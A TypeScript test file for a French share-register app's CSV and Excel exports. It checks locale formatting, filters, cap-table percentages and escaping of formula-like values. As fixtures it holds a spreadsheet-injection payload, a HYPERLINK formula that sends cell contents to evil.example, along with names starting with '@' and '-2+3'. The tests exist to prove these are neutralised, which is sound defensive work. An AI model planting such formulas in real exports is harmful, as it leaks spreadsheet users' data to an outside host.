import readXlsxFile from "read-excel-file/node";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { createCorporate } from "#features/entities/corporates/corporates.commands.ts";
import { createPerson } from "#features/accounts/people/people.commands.ts";
import type { Client } from "../../../../test/client.ts";
import {
  createCategory,
  createCompany,
  createIssuer,
  credit,
  transferPath,
  undocumented,
} from "../../../../test/factories.ts";
import { readStored } from "../../../../test/stored.ts";
import { csvFile, importFiles } from "../../../../test/registers.ts";
import { createWorld, type World } from "../../../../test/world.ts";

let world: World;
let admin: Client;
let companyId: string;
let ordId: string;
let adpId: string;

/** The heading says what it is and whose, of when, and where it is verified. */
const headingRows = 3;

const formula = '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")';

// Claire and Karim hold ordinary shares; an entity and a person with a formula for a name hold others.
beforeAll(async () => {
  world = await createWorld();
  admin = await world.signedIn(world.people.admin.email);
  const { claire, karim } = world.people;
  const ctx = world.contextOf({
    userId: world.people.admin.id,
    sessionId: null,
    isAdmin: true,
    companyIds: [],
    holderIds: [],
  });
  const entity = await createCorporate(ctx, {
    legalName: '@Holding; "Une"',
    legalForm: "SAS",
    siret: "73282932000074",
  });
  const person = await createPerson(ctx, {
    firstName: "-2+3",
    lastName: "Formule",
    email: "formule@test.example",
  });
  companyId = (await createCompany(admin, { name: "Atelier, Père & fils" })).id;
  ordId = (await createCategory(admin, companyId, { code: "ORD", nominalValue: "0.5" })).id;
  adpId = (await createCategory(admin, companyId, { code: "ADP", votesPerShare: 2 })).id;
  await credit(admin, ordId, claire.id, {
    quantity: 1234,
    unitPrice: "1234.5",
    effectiveOn: "2024-01-10",
    reason: formula,
  });
  await credit(admin, adpId, entity.id, {
    quantity: 100,
    effectiveOn: "2024-02-10",
    nature: "contribution",
  });
  await credit(admin, adpId, person.id, { quantity: 50, effectiveOn: "2024-02-11" });
  await admin.post(transferPath(claire.id, karim.id, ordId), {
    ...undocumented,
    quantity: 234,
    unitPrice: "0.000001",
    nature: "gift",
    effectiveOn: "2024-03-10",
  });
});
afterAll(() => world.close());

const text = async (path: string, language = "fr", client = admin): Promise<string> => {
  const answer = await client.get(`/companies/${companyId}/${path}`, {
    headers: { "accept-language": language },
  });
  expect(answer.status).toBe(200);
  return answer.bytes.toString("utf8");
};

const sheets = async (path: string) => {
  const answer = await admin.get(`/companies/${companyId}/${path}`);
  expect(answer.status).toBe(200);
  const found = await readXlsxFile(answer.bytes);
  return found.map(({ sheet, data }) => ({
    sheet,
    heading: data.slice(0, headingRows),
    data: data.slice(headingRows),
  }));
};

/** The lines below what the file says of itself. */
const tableOf = (csv: string): string[] => csv.trimEnd().split("\r\n").slice(headingRows);

/** The rows below the titles, but for the last: it says the head of the register. */
const rowsOf = (csv: string): string[] => {
  const rows = tableOf(csv).slice(1);
  expect(rows.pop()).toMatch(/^# Tête du registre au [\d/]{10} – ligne n° \d+ : [\da-f]{64}$/);
  return rows;
};

describe("a CSV file", () => {
  test("is one that a French spreadsheet opens: mark of UTF-8, semicolons, decimal commas, days", async () => {
    const csv = await text("register.csv");
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const [head = "", first = "", ...others] = tableOf(csv);
    expect(head).toMatch(/^N°;Date d’effet;Nature;/);
    expect(first).toContain("1;10/01/2024;Souscription;ORD;1234;1234,5;");
    expect(others.join("\n")).toContain(";0,000001;");
    const { headers } = await admin.get(`/companies/${companyId}/register.csv`);
    expect(headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(headers["content-disposition"]).toMatch(/^attachment; .*Registre%20des%20mouvements/);
  });

  test("is one that an English spreadsheet opens: commas, decimal points, days as ISO writes them", async () => {
    const csv = await text("register.csv", "en-GB");
    expect(csv).toContain("1,2024-01-10,");
    expect(csv).toContain(",1234.5,");
    expect(tableOf(csv)[0]).toMatch(/^No\.,/);
  });

  test.each(["register.csv", "shareholder-accounts.csv", "cap-table.csv"])(
    "has no cell that a spreadsheet would run (%s)",
    async (path) => {
      const csv = await text(path);
      const cells = csv.split(/[;\r\n]+/).map((cell) => cell.replace(/^\ufeff?"?/, ""));
      const running = cells.filter((cell) => /^[=@+\t]|^-(?!\d+$)/.test(cell));
      expect(running).toEqual([]);
      expect(csv).toContain("'-2+3 Formule");
      expect(csv).toContain("'@Holding");
    },
  );
});

describe("the register, filtered as the screen", () => {
  const numbers = (csv: string): number[] => rowsOf(csv).map((row) => Number(row.split(";")[0]));

  test.each([
    ["", [1, 2, 3, 4]],
    ["type=TRANSFER", [4]],
    ["nature=contribution", [2]],
    ["from=2024-02-10&until=2024-02-29", [2, 3]],
    ["search=holding", [2]],
    ["search=benali+KARIM", [4]],
    ["search=karim+aubry", []],
    ["search=3", [3]],
    ["search=personne+d'ici", []],
  ])("has what %j shows and nothing else", async (query, expected) => {
    const list = await admin.get(`/companies/${companyId}/register?direction=asc&${query}`);
    expect(list.body.items.map(({ number }: { number: number }) => number)).toEqual(expected);
    expect(numbers(await text(`register.csv?${query}`))).toEqual(expected);
    const [movements, , , hashes] = await sheets(`register.xlsx?${query}`);
    expect(movements?.data.slice(1).map(([number]) => number)).toEqual(expected);
    expect(hashes?.data).toHaveLength(expected.length + 2);
  });

  test("by a holder or by a category has their lines", async () => {
    const { karim } = world.people;
    expect(numbers(await text(`register.csv?holderId=${karim.id}`))).toEqual([4]);
    expect(numbers(await text(`register.csv?shareCategoryId=${adpId}`))).toEqual([2, 3]);
  });

  test("names no holder and no category beside those of its lines, on no sheet", async () => {
    const found = await sheets("register.xlsx?type=TRANSFER");
    const words = JSON.stringify(found.map(({ data }) => data));
    expect(words).toContain("Karim Benali");
    expect(words).not.toMatch(/Holding|Formule|ADP/);
  });
});

describe("the cap table", () => {
  test("is that of the day, by the filter and in the order of the screen", async () => {
    const names = async (query: string) =>
      rowsOf(await text(`cap-table.csv?${query}`)).map((row) => row.split(";")[0]);
    expect(await names("sort=name")).toEqual([
      "'-2+3 Formule",
      "\"'@Holding",
      "Claire Aubry",
      "Karim Benali",
      "Total",
    ]);
    expect(await names("at=2024-01-31")).toEqual(["Claire Aubry", "Total"]);
    expect(await names("search=karim")).toEqual(["Karim Benali", "Total"]);
    expect(await names(`shareCategoryId=${ordId}`)).toEqual([
      "Claire Aubry",
      "Karim Benali",
      "Total",
    ]);
    expect(await names("at=2023-01-01")).toEqual(["Total"]);
  });

  test("has percentages of the whole company, computed on whole numbers", async () => {
    const csv = await text("cap-table.csv?search=claire");
    expect(rowsOf(csv)).toEqual([
      "Claire Aubry;Personne physique;;1000;0;1000;72,25%;1000;65,19%",
      expect.stringContaining("Total;"),
    ]);
  });

  test("has every holder, however many pages the screen would need", async () => {
    const { id } = await createCompany(admin);
    const head = "Date d’effet;Nature;Catégorie;Quantité;Cessionnaire;E-mail du cessionnaire";
    const lines = Array.from(
      { length: 450 },
      (_, index) => `10/01/2024;Souscription;ORD;1;Porteur ${index};porteur${index}@test.example`,
    );
    const done = await importFiles(admin, id, [csvFile([head, ...lines])], { commit: true });
    expect(done.body.committed).toBe(true);
    const answer = await admin.get(`/companies/${id}/cap-table.csv`);
    expect(rowsOf(answer.bytes.toString("utf8"))).toHaveLength(451);
    const register = await admin.get(`/companies/${id}/register.csv`);
    expect(rowsOf(register.bytes.toString("utf8"))).toHaveLength(450);
  });
});

test("the individual accounts carry the balance after each line (R-6)", async () => {
  const rows = rowsOf(await text("shareholder-accounts.csv"));
  const claire = rows.filter((row) => row.startsWith("Claire Aubry"));
  expect(claire.map((row) => row.split(";").slice(-6, -4))).toEqual([
    ["1234", "1234"],
    ["-234", "1000"],
  ]);
  const [sheet] = await sheets("shareholder-accounts.xlsx");
  expect(sheet?.data).toHaveLength(rows.length + 2);
});

test("a workbook keeps numbers as numbers, days as days and formulas as text", async () => {
  const [movements, holders, categories, hashes] = await sheets("register.xlsx");
  const [head, first] = movements?.data ?? [];
  expect(head?.slice(0, 3)).toEqual(["N°", "Date d’effet", "Nature"]);
  expect(first?.[0]).toBe(1);
  expect(first?.[1]).toEqual(new Date("2024-01-10T00:00:00.000Z"));
  expect(first?.[5]).toBe(1234.5);
  expect(JSON.stringify(movements?.data)).toContain("=HYPERLINK");
  expect(holders?.data).toHaveLength(5);
  expect(categories?.data).toHaveLength(3);
  expect(hashes?.data[1]?.[2]).toMatch(/^[\da-f]{64}$/);
});

test("a company without a movement is exported too", async () => {
  const { company } = await createIssuer(admin);
  for (const path of [
    "register.csv",
    "register.xlsx",
    "cap-table.csv",
    "cap-table.xlsx",
    "shareholder-accounts.csv",
    "shareholder-accounts.xlsx",
    "ocf.zip",
  ]) {
    const answer = await admin.get(`/companies/${company.id}/${path}`);
    expect([path, answer.status, answer.bytes.length > 20]).toEqual([path, 200, true]);
  }
});

test("reading an export changes nothing but how many were made, and by whom", async () => {
  const { attempts: _, audit_log: lines, ...before } = await readStored(world);
  await text("register.csv");
  await sheets("cap-table.xlsx");
  await admin.get(`/companies/${companyId}/ocf.zip`);
  const { attempts: __, audit_log: more, ...after } = await readStored(world);
  expect(after).toEqual(before);
  expect(Number.parseInt(more ?? "") - Number.parseInt(lines ?? "")).toBe(3);
});

test("the template is offered in both forms and languages, and is a file that the import knows", async () => {
  const claire = await world.signedIn(world.people.claire.email);
  for (const language of ["fr", "en"]) {
    for (const format of ["csv", "xlsx"]) {
      const options = { headers: { "accept-language": language } };
      const answer = await claire.get(`/register/template.${format}`, options);
      expect(answer.status).toBe(200);
      const { id } = await createCompany(admin);
      const file = new File([new Uint8Array(answer.bytes)], `modele.${format}`);
      const { body } = await importFiles(admin, id, [file]);
      const codes = body.faults.map(({ code }: { code: string }) => code);
      expect(codes).not.toContain("column_missing");
      expect(codes).not.toContain("column_ignored");
      expect(body.format).toBe(format);
    }
  }
  expect((await claire.get("/register/template.pdf")).status).toBe(404);
});

test("an unknown form of an export is refused, and an unknown company has none", async () => {
  for (const path of ["register.exe", "cap-table.html", "shareholder-accounts.json"]) {
    expect([400, 404]).toContain((await admin.get(`/companies/${companyId}/${path}`)).status);
  }
  for (const path of ["register.csv", "cap-table.xlsx", "shareholder-accounts.csv", "ocf.zip"]) {
    const answer = await admin.get(`/companies/018f0000-0000-7000-8000-000000000000/${path}`);
    expect(answer).toMatchObject({ status: 404, body: { code: "company_not_found" } });
  }
});
